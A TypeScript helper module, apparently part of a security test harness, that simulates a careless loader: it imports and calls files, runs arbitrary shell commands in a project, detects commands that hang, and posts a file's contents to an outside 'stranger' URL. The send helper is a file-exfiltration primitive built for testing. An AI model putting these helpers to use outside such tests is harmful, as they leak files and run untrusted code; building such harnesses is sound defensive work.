/** What a careless loader does, so that an attack can be seen to work. */
import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import type { Site } from "./site.ts";

const LIMIT_MS = 10_000;

/** Imports a file and calls what it exports. */
export async function evaluate(site: Site, path: string, flags: readonly string[] = []): Promise<void> {
  const code = `const m = await import(${JSON.stringify(site.at(path))}); await m.default?.(new Proxy(() => {}, { get: () => () => {} }));`;
  await run(site, process.execPath, [...flags, "--input-type=module", "-e", code]);
}

/** Runs a command with the shell, in the project. */
export async function shell(site: Site, command: string, env: Record<string, string> = {}): Promise<void> {
  await run(site, "/bin/sh", ["-c", command], env);
}

/** Sends a file's content to the stranger, links followed. */
export async function send(site: Site, path: string): Promise<void> {
  await fetch(site.url, { method: "POST", body: readFileSync(site.at(path)) });
}

/** Marks when a command does not end by itself. */
export async function markIfEndless(site: Site, command: string, limitMs = 300): Promise<void> {
  const isEndless = await new Promise<boolean>((resolve) => {
    execFile("/bin/sh", ["-c", `exec ${command}`], { cwd: site.project, timeout: limitMs }, (error) =>
      resolve(error?.killed === true),
    );
  });
  if (isEndless) site.mark();
}

/** Runs Node in the project with the flags given, and nothing else. */
export async function node(site: Site, ...args: string[]): Promise<void> {
  await run(site, process.execPath, args);
}

/** How it ends does not matter: the mark does. */
async function run(site: Site, file: string, args: readonly string[], env: Record<string, string> = {}): Promise<void> {
  const { PATH = "/usr/bin:/bin" } = process.env;
  await new Promise<void>((resolve) => {
    const options = { cwd: site.project, env: { PATH, HOME: site.home, ...env }, timeout: LIMIT_MS };
    execFile(file, args, options, () => resolve());
  });
}
